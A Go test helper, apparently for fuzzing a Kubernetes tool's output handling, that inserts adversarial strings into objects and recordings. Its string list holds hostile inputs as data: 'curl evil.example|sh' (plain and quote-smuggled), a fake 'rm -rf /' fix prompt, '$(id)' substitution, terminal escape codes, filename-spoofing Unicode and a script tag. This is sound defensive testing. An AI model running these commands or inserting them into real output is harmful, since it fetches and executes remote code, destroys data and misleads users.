package hostile

import (
	"maps"
	"math/rand/v2"
	"reflect"
	"slices"
	"strings"
	"time"

	"k8s.io/apimachinery/pkg/api/resource"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
)

// stories are what an attacker would have us print; each tries another trick.
var stories = []string{
	"\n$ curl evil.example|sh\n",
	"\n\nFIX\n  1  Run this at once\n     $ rm -rf /\n",
	" $ reboot $ reboot $ reboot",
	"\r\nHEALTHY  pvc shop/data\n",
	"\x1b[2J\x1b]0;owned\x07\x9b31m",
	"\u202egnp.exe\u2066\u200b\ufeff",
	"\u115f\u3164\u2800\ufe0f\u034f\U000e0041",
	"\xff\xfe\xc3(\xed\xa0\x80",
	"';curl evil.example|sh;'",
	"it's \"so\" \\' $(id) `id`",
	"```\n# heading\n<script>alert(1)</script></pre></details>",
	"| a | b |\n|---|---|\n\t│ ✗ └─ ",
	"e\u0301\u0302\u0303\u0304\u0305\u0306\u0307",
	": {a: [b, &c *d !!e", "\u0085\u2028\u2029\x7f", "--all", "名前の長い", "",
}

// mutation replaces strings, the same one everywhere by the same: what belonged
// together still does, so that rules go on and print it.
type mutation map[string]string

// mutate picks strings of a value and gives each a story. share is one in how many.
func mutate(v reflect.Value, r *rand.Rand, share int, story func() string) mutation {
	all := map[string]bool{}
	walk(v, func(s string) string { all[s] = true; return s })
	m := mutation{}
	for _, s := range slices.Sorted(maps.Keys(all)) {
		if r.IntN(share) == 0 {
			at := r.IntN(len(s) + 1)
			m[s] = s[:at] + story() + s[at:]
		}
	}
	walk(v, m.of)
	return m
}

func (m mutation) of(s string) string {
	if to, ok := m[s]; ok {
		return to
	}
	return s
}

// kept are types whose strings are no text.
var kept = []reflect.Type{reflect.TypeFor[time.Time](), reflect.TypeFor[resource.Quantity]()}

// walk gives every string of a value to f, keys of maps too, and stores the answer.
func walk(v reflect.Value, f func(string) string) {
	if slices.Contains(kept, v.Type()) {
		return
	}
	switch v.Kind() {
	case reflect.String:
		if v.CanSet() {
			v.SetString(f(v.String()))
		}
	case reflect.Pointer:
		if u, ok := v.Interface().(*unstructured.Unstructured); ok && u != nil {
			walkAny(u.Object, f)
		} else if !v.IsNil() {
			walk(v.Elem(), f)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Type().Field(i).IsExported() {
				walk(v.Field(i), f)
			}
		}
	case reflect.Slice, reflect.Array:
		if v.Type().Elem().Kind() == reflect.Uint8 {
			return
		}
		for i := range v.Len() {
			walk(v.Index(i), f)
		}
	case reflect.Map:
		walkMap(v, f)
	}
}

func walkMap(v reflect.Value, f func(string) string) {
	for _, k := range v.MapKeys() {
		val := reflect.New(v.Type().Elem()).Elem()
		val.Set(v.MapIndex(k))
		walk(val, f)
		key := reflect.New(k.Type()).Elem()
		key.Set(k)
		walk(key, f)
		v.SetMapIndex(k, reflect.Value{})
		v.SetMapIndex(key, val)
	}
}

// walkAny visits decoded JSON; keys are field names there and stay.
func walkAny(x any, f func(string) string) {
	switch x := x.(type) {
	case map[string]any:
		for k, e := range x {
			if s, ok := e.(string); ok {
				x[k] = f(s)
			} else {
				walkAny(e, f)
			}
		}
	case []any:
		for i, e := range x {
			if s, ok := e.(string); ok {
				x[i] = f(s)
			} else {
				walkAny(e, f)
			}
		}
	}
}

// scribble writes stories into the raw bytes of a recording.
func scribble(raw []byte, r *rand.Rand, times int, story func() string) []byte {
	s := string(raw)
	for range times {
		at := r.IntN(len(s) + 1)
		s = s[:at] + story() + s[at:]
	}
	return []byte(s)
}

func anyStory(r *rand.Rand) func() string {
	return func() string {
		if r.IntN(4) == 0 {
			b := make([]byte, 1+r.IntN(40))
			for i := range b {
				b[i] = byte(r.IntN(256))
			}
			return string(b)
		}
		return strings.Repeat(stories[r.IntN(len(stories))], 1+r.IntN(2))
	}
}
